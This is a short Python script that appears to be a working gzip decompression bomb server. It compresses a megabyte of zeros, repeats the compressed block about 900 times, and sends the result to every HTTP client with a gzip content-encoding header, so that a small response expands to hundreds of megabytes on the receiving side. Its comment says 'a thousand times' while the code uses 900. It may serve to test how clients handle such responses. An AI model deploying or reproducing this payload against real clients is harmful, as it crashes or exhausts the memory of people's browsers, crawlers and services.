import zlib

from raw import serve

packer = zlib.compressobj(9, zlib.DEFLATED, 31)
zeros = bytes(1 << 20)
# Each full block of zeros is packed alike; what is packed once is sent a thousand times.
first = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
again = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
BODY = first + again * 900
HEAD = f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(BODY)}\r\n\r\n".encode()

serve(lambda connection, path: connection.sendall(HEAD + BODY))
